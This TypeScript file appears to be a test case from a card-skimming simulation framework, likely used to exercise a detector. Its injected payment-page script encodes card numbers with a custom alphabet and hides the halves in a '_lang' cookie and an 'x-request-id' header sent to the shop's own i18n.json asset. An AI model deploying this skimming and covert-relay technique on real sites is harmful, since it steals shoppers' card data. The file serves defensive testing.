import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

const ALPHABET = 'QdR7xK2mZp|';

export default skimmer({
  id: 'own-alphabet-headers',
  why: 'An alphabet of its own, half of it in a header and half in a cookie of the same request to the shop: no part holds the number, and no known encoding fits.',
  covers: ['encoding: substitution', 'hard: first-party relay', 'sending: relay'],
  base: 'direct',
  install: (site) => {
    site.serve('shop/assets/i18n.json', '{}');
    site.append(
      onPay(js`
    var out = Array.from(card().replace(/[^0-9|]/g, '')).map(function (c) { return '${ALPHABET}'[c === '|' ? 10 : +c]; }), even = '', odd = '';
    out.forEach(function (c, i) { if (i % 2) odd += c; else even += c; });
    document.cookie = '_lang=' + encodeURIComponent(odd) + '; path=/';
    fetch('/assets/i18n.json', { headers: { 'x-request-id': even } });`),
    );
  },
  proof: holds((arrived) =>
    at(arrived, 'shop', '/assets/i18n.json').map(({ headers }) => {
      const even = String(headers['x-request-id'] ?? '');
      const odd = decodeURIComponent(/_lang=([^;]+)/.exec(headers.cookie ?? '')?.[1] ?? '');
      return Array.from(even, (c, i) => [c, odd[i] ?? ''])
        .flat()
        .map((c) => '0123456789|'[ALPHABET.indexOf(c)] ?? '')
        .join('');
    }),
  ),
});
